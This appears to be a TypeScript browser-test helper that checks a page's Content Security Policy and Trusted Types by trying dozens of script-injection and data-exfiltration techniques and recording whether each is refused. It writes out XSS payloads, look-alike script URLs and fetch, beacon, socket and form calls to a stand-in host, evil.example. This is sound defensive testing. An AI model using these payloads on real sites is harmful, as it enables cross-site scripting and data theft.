type WithTrustedTypes = {
  trustedTypes: { createPolicy: (name: string, rules: { createHTML: (text: string) => string }) => void };
};

/**
 * Ways in which untrusted text becomes script, or data leaves the page. The product uses none of them: each represents
 * a possible future mistake. They run in the page, and each has to throw, reject, or be reported as a violation.
 */
const injections = (): Record<string, () => unknown> => {
  const handler = '<img src="/x" onerror="ran()">';
  const outside = 'https://evil.example';
  const make = <Name extends keyof HTMLElementTagNameMap>(name: Name) => document.createElement(name);
  const add = <Node extends HTMLElement>(node: Node) => document.body.appendChild(node);
  /** Assigns text to a property that accepts trusted values only; the types reject it as well. */
  const put = (node: object, name: string, text: string) => Reflect.set(node, name, text);
  const withScript = (name: string, text: string) => {
    const script = make('script');
    put(script, name, text);
    add(script);
  };
  const fetched = (url: string) => () => withScript('src', url);
  return {
    'markup: innerHTML': () => put(add(make('div')), 'innerHTML', handler),
    'markup: outerHTML': () => put(add(make('div')), 'outerHTML', handler),
    'markup: insertAdjacentHTML': () => document.body.insertAdjacentHTML('beforeend', handler),
    'markup: setHTMLUnsafe': () => add(make('div')).setHTMLUnsafe(handler),
    'markup: shadow root': () => put(add(make('div')).attachShadow({ mode: 'open' }), 'innerHTML', handler),
    'markup: document.write': () => document.write(handler),
    'markup: srcdoc': () => put(add(make('iframe')), 'srcdoc', '<script>parent.ran()</script>'),
    'markup: DOMParser': () => new DOMParser().parseFromString(handler, 'text/html'),
    'markup: a fragment of a range': () => document.createRange().createContextualFragment(handler),
    'script: another host': fetched(`${outside}/x.js`),
    'script: a host that looks alike': fetched('https://www.google.com.evil.example/recaptcha/api.js'),
    'script: a host as a name of a user': fetched('https://www.google.com@evil.example/recaptcha/api.js'),
    'script: another path of the bot check’s host': fetched('https://www.google.com/recaptcha/../jsapi'),
    'script: no encryption': fetched('http://www.google.com/recaptcha/api.js'),
    'script: a file of our own, named by a text': fetched('/sw.js?callback=ran'),
    'script: data': fetched('data:text/javascript,ran()'),
    'script: a blob': () => fetched(URL.createObjectURL(new Blob(['ran()'])))(),
    'script: text': () => withScript('text', 'ran()'),
    'script: textContent': () => withScript('textContent', 'ran()'),
    'script: innerText': () => withScript('innerText', 'ran()'),
    'script: a text node': () => {
      const script = make('script');
      script.append('ran();document.currentScript.remove()');
      // The browser reports no violation for this one: the script just does not run.
      if (add(script).isConnected) throw new Error('It did not run.');
    },
    'code: eval': () => (0, window['eval'])('ran()'),
    'code: Function': () => Reflect.construct(window.Function, ['ran()'])(),
    'code: setTimeout': () => Reflect.apply(window.setTimeout, window, ['ran()']),
    'code: setInterval': () => Reflect.apply(window.setInterval, window, ['ran()']),
    'code: a handler': () => {
      const node = add(make('button'));
      node.setAttribute('onclick', 'ran()');
      node.click();
    },
    'code: an address of a link': () => {
      const link = add(make('a'));
      link.href = ['java', 'script:ran()'].join('');
      link.click();
    },
    'code: an address of a frame': () => {
      const frame = make('iframe');
      frame.src = ['java', 'script:parent.ran()'].join('');
      add(frame);
    },
    'code: import of data': () => import(['data:text/javascript', 'ran()'].join(',')),
    'code: import from another host': () => import(`${outside}/x.js`),
    'worker: another host': () => new Worker(`${outside}/x.js`),
    'worker: data': () => new Worker('data:text/javascript,ran()'),
    'worker: shared': () => new SharedWorker('data:text/javascript,ran()'),
    'worker: service worker of another name': () => navigator.serviceWorker.register('/evil.js'),
    'policy: one more': () =>
      (window as unknown as WithTrustedTypes).trustedTypes.createPolicy('default', { createHTML: String }),
    'out: fetch': () => fetch(`${outside}/?a`),
    'out: beacon': () => navigator.sendBeacon(`${outside}/?a`),
    'out: picture': () => put(add(make('img')), 'src', `${outside}/a.png`),
    'out: socket': () => new WebSocket('wss://evil.example'),
    'out: events': () => new EventSource(`${outside}/a`),
    'out: form': () => {
      const frame = add(make('iframe'));
      frame.name = 'outside';
      const form = add(make('form'));
      form.target = frame.name;
      form.action = outside;
      form.submit();
    },
    'in: frame': () => put(add(make('iframe')), 'src', outside),
    'in: object': () => put(add(make('object')), 'data', `${outside}/x.swf`),
    'in: embed': () => put(add(make('embed')), 'src', `${outside}/x.swf`),
    'in: style': () => add(make('style')).append('body{display:none}'),
    'in: style sheet': () => {
      const link = make('link');
      link.rel = 'stylesheet';
      link.href = `${outside}/x.css`;
      add(link);
    },
    'in: style attribute': () => document.body.setAttribute('style', 'display:none'),
    'in: font': () => new FontFace('evil', `url(${outside}/x.woff2)`).load(),
    'in: video': () => put(add(make('video')), 'src', `${outside}/x.mp4`),
    'in: base': () => {
      const base = make('base');
      base.href = outside;
      document.head.append(base);
    },
  };
};

/** The effects of one attempt have to be over before the next begins. */
const PAUSE_MS = 20;

/** Tries each attempt and returns its result: `refused`, or `passed` where the browser allowed it. */
const tryAll = async (
  attempts: Record<string, () => unknown>,
  [named, settled]: [number, number],
): Promise<Record<string, 'refused' | 'passed' | 'ran'>> => {
  const pause = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));
  const outcomes: Record<string, 'refused' | 'passed' | 'ran'> = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    let hasRun = false;
    Object.assign(window, { ran: () => (hasRun = true) });
    const violation = new Promise<boolean>((resolve) => {
      document.addEventListener('securitypolicyviolation', () => resolve(true), { once: true });
      setTimeout(() => resolve(false), named);
    });
    let isRefused: boolean;
    try {
      await attempt();
      isRefused = await violation;
    } catch {
      isRefused = true;
    }
    await pause(settled);
    outcomes[name] = hasRun ? 'ran' : isRefused ? 'refused' : 'passed';
  }
  return outcomes;
};

/** The same as source text for `page.evaluate`; the browser has `namedMs` to report a violation. */
export const allInjections = (namedMs: number) =>
  `(${tryAll.toString()})((${injections.toString()})(), [${namedMs}, ${PAUSE_MS}])`;
